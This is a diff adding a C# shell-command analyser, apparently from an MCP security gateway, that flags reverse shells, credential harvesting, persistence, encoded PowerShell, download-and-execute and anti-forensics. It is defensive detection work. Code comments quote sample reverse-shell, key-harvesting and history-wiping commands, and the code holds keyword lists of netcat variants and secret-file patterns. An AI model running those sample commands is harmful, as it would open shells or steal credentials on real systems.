@@ -1,0 +1,274 @@
+using static McpVanguard.Inspection.Shell.ShellVocabulary;
+
+namespace McpVanguard.Inspection.Shell;
+
+/// <summary>The checks on one simple command, by the name of the program it runs.</summary>
+internal sealed partial class ShellAnalyzer
+{
+    private void AnalyzeCommand(ShellCommand command, int k, string name, int nesting)
+    {
+        var words = command.Words;
+        switch (name)
+        {
+            case var _ when Shells.Contains(name):
+                RunInline(words, k, static a => a.Length <= 5 && a[0] == '-' && a[1] != '-' && a.Contains('c'), nesting);
+                CheckSubstitutedCode(command);
+                break;
+            case "eval" or "source" or "." or "iex" or "invoke-expression":
+                AnalyzeText(string.Join(' ', words, k + 1, words.Count - k - 1), nesting + 1);
+                CheckSubstitutedCode(command);
+                break;
+            case "cmd":
+                RunInline(words, k, static a => a.Equals("/c", StringComparison.OrdinalIgnoreCase) || a.Equals("/k", StringComparison.OrdinalIgnoreCase), nesting, joinRest: true);
+                break;
+            case "powershell" or "pwsh":
+                PowerShell(words, k, nesting);
+                break;
+            case var _ when name.StartsWith("python", StringComparison.Ordinal) || name.StartsWith("perl", StringComparison.Ordinal)
+                || name.StartsWith("ruby", StringComparison.Ordinal) || name.StartsWith("php", StringComparison.Ordinal) || name is "node" or "nodejs" or "lua" or "awk" or "gawk":
+                for (var i = k + 1; i < words.Count - 1; i++)
+                {
+                    if (words[i] is "-c" or "-e" or "-E" or "-r" or "--eval")
+                    {
+                        CheckInterpreterCode(words[i + 1].ToLowerInvariant());
+                    }
+                }
+
+                CheckSubstitutedCode(command);
+                break;
+            case "nc" or "ncat" or "netcat" or "nc.traditional" or "nc.openbsd" or "nc64" or "cryptcat":
+                // Reverse/bind shell: "nc -e /bin/sh host 4444", "ncat --sh-exec …", "nc -lvnpe /bin/bash 4444".
+                for (var i = k + 1; i < words.Count; i++)
+                {
+                    var a = words[i];
+                    if (a is "-c" or "--exec" or "--sh-exec" or "--lua-exec" || a.Length > 1 && a[0] == '-' && a[1] != '-' && a.Contains('e'))
+                    {
+                        Report(ShellFindings.ReverseShell);
+                    }
+                }
+
+                break;
+            case "socat":
+                // Reverse shell: "socat tcp:host:4444 exec:'bash -li',pty".
+                foreach (var w in words)
+                {
+                    var lw = w.ToLowerInvariant();
+                    if (lw.StartsWith("exec:", StringComparison.Ordinal) || lw.StartsWith("system:", StringComparison.Ordinal))
+                    {
+                        Report(ShellFindings.ReverseShell);
+                    }
+                }
+
+                break;
+            case "find":
+                // Credential harvest: "find / -name '*.pem' -exec cat {} \;".
+                if (IsSensitiveFind(words, k) && FindExecsReader(words, k))
+                {
+                    Report(ShellFindings.CredentialHarvest);
+                }
+
+                break;
+            case "crontab":
+                // Persistence: any crontab use other than listing installs a new table.
+                if (!words.Contains("-l"))
+                {
+                    Report(ShellFindings.Persistence);
+                }
+
+                break;
+            case "schtasks":
+                if (words.Exists(static w => w.Equals("/create", StringComparison.OrdinalIgnoreCase)))
+                {
+                    Report(ShellFindings.Persistence);
+                }
+
+                break;
+            case "reg":
+                if (words.Exists(static w => w.Equals("add", StringComparison.OrdinalIgnoreCase)) && words.Exists(static w => w.Contains("\\run", StringComparison.OrdinalIgnoreCase)))
+                {
+                    Report(ShellFindings.Persistence);
+                }
+
+                break;
+            case "tee":
+                for (var i = k + 1; i < words.Count; i++)
+                {
+                    if (!words[i].StartsWith('-'))
+                    {
+                        CheckWriteTarget(words[i], truncates: !words.Contains("-a"));
+                    }
+                }
+
+                break;
+            case "cp" or "mv" or "install" or "rsync" or "ln":
+                if (words.Count > k + 2 && !words[^1].StartsWith('-'))
+                {
+                    CheckWriteTarget(words[^1], truncates: false);
+
+                    // Anti-forensics: "ln -sf /dev/null ~/.bash_history".
+                    if (name == "ln" && words.Contains("/dev/null") && ShellTargets.IsTrail(ShellTargets.Fold(words[^1])))
+                    {
+                        Report(ShellFindings.AntiForensics);
+                    }
+                }
+
+                break;
+            default:
+                AnalyzeSystemCommand(words, k, name);
+                break;
+        }
+    }
+
+    /// <summary>Runs the script given to <c>sh -c</c> or <c>cmd /c</c> through the analyser again.</summary>
+    private void RunInline(List<string> words, int k, Func<string, bool> isInlineFlag, int nesting, bool joinRest = false)
+    {
+        for (var i = k + 1; i < words.Count - 1; i++)
+        {
+            if (words[i].Length > 1 && isInlineFlag(words[i]))
+            {
+                var script = joinRest ? string.Join(' ', words, i + 1, words.Count - i - 1) : words[i + 1];
+                AnalyzeText(script, nesting + 1);
+                return;
+            }
+        }
+    }
+
+    /// <summary>An interpreter running what a substitution produced: <c>bash -c "$(curl -fsSL …)"</c>, <c>eval $(echo … | base64 -d)</c>.</summary>
+    private void CheckSubstitutedCode(ShellCommand command)
+    {
+        foreach (var sub in command.Substitutions)
+        {
+            foreach (var inner in sub.AllCommands())
+            {
+                var k = FindCommand(inner.Words, out _);
+                if (k >= inner.Words.Count)
+                {
+                    continue;
+                }
+
+                var name = NameOf(inner.Words[k]);
+                if (Downloaders.Contains(name))
+                {
+                    Report(ShellFindings.DownloadExecute);
+                }
+                else if (IsDecoder(inner.Words, k, name))
+                {
+                    Report(ShellFindings.DecodedPayload);
+                }
+            }
+        }
+    }
+
+    /// <summary>Inline interpreter code (<c>python -c</c>, <c>perl -e</c>, …): socket + exec is a reverse shell; decode/fetch + exec a hidden payload.</summary>
+    private void CheckInterpreterCode(string code)
+    {
+        var socket = code.Contains("socket") || code.Contains("fsockopen") || code.Contains("net.connect") || code.Contains("/dev/tcp")
+            || code.Contains("tcpclient") || code.Contains("/inet/tcp");
+        var exec = code.Contains("pty.spawn") || code.Contains("dup2") || code.Contains("subprocess") || code.Contains("os.system")
+            || code.Contains("/bin/sh") || code.Contains("/bin/bash") || code.Contains("exec") || code.Contains("system(") || code.Contains("spawn")
+            || code.Contains("popen") || code.Contains("child_process") || code.Contains("passthru") || code.Contains("proc_open") || code.Contains("cmd.exe");
+        if (socket && exec)
+        {
+            Report(ShellFindings.ReverseShell);
+        }
+
+        var evaluates = code.Contains("exec(") || code.Contains("eval(") || code.Contains("eval ") || code.Contains("system(");
+        if (evaluates && (code.Contains("b64decode") || code.Contains("base64_decode") || code.Contains("decode64") || code.Contains("frombase64")))
+        {
+            Report(ShellFindings.DecodedPayload);
+        }
+
+        if (evaluates && (code.Contains("urlopen") || code.Contains("requests.get") || code.Contains("file_get_contents(\"http") || code.Contains("file_get_contents('http")
+            || code.Contains("lwp::simple") || code.Contains("open-uri") || code.Contains("net::http")))
+        {
+            Report(ShellFindings.DownloadExecute);
+        }
+    }
+
+    private void PowerShell(List<string> words, int k, int nesting)
+    {
+        for (var i = k + 1; i < words.Count - 1; i++)
+        {
+            var a = words[i];
+            if (a.Length < 2 || a[0] is not ('-' or '/'))
+            {
+                continue;
+            }
+
+            var option = a[1..].ToLowerInvariant();
+
+            // -e, -en, -enc, …, -EncodedCommand and -ec all mean -EncodedCommand: the script is base64 UTF-16LE.
+            if (option == "ec" || "encodedcommand".StartsWith(option, StringComparison.Ordinal))
+            {
+                Report(ShellFindings.PowerShellEncoded);
+                if (ShellPayloadDecoder.TryBase64(words[i + 1], utf16: true, out var script))
+                {
+                    AnalyzeText(script, nesting + 1);
+                }
+
+                return;
+            }
+
+            if ("command".StartsWith(option, StringComparison.Ordinal))
+            {
+                AnalyzeText(string.Join(' ', words, i + 1, words.Count - i - 1), nesting + 1);
+                return;
+            }
+        }
+    }
+
+    /// <summary>A <c>find</c> whose name or path pattern targets keys or credentials.</summary>
+    private static bool IsSensitiveFind(List<string> words, int k)
+    {
+        for (var i = k + 1; i < words.Count - 1; i++)
+        {
+            if (words[i] is "-name" or "-iname" or "-path" or "-ipath" or "-wholename" or "-regex" or "-iregex" && IsSecretPattern(words[i + 1].ToLowerInvariant()))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
+
+    private static bool IsSecretPattern(string p) =>
+        p.Contains("id_rsa") || p.Contains("id_dsa") || p.Contains("id_ecdsa") || p.Contains("id_ed25519") || p.Contains("id_*") || p.Contains(".pem")
+        || p.Contains(".key") || p.Contains(".p12") || p.Contains(".pfx") || p.Contains(".ppk") || p.Contains(".kdbx") || p.Contains(".env")
+        || p.Contains("credential") || p.Contains("netrc") || p.Contains("pgpass") || p.Contains("authorized_keys") || p.Contains("shadow")
+        || p.Contains("wallet") || p.Contains("secret") || p.Contains("passw") || p.Contains("token") || p.Contains(".ssh") || p.Contains(".aws")
+        || p.Contains("private") || p.Contains("kubeconfig");
+
+    private static bool FindExecsReader(List<string> words, int k)
+    {
+        for (var i = k + 1; i < words.Count - 1; i++)
+        {
+            if (words[i] is "-exec" or "-execdir" or "-ok" or "-okdir" && Readers.Contains(NameOf(words[i + 1])))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
+
+    private static bool XargsRunsReader(List<string> words, int k)
+    {
+        for (var i = k + 1; i < words.Count; i++)
+        {
+            var w = words[i];
+            if (w.StartsWith('-'))
+            {
+                if (w is "-I" or "-n" or "-P" or "-d" or "-L" or "-s" or "-E" && i + 1 < words.Count)
+                {
+                    i++;
+                }
+
+                continue;
+            }
+
+            return Readers.Contains(NameOf(w));
+        }
+
+        return false;
+    }
+}
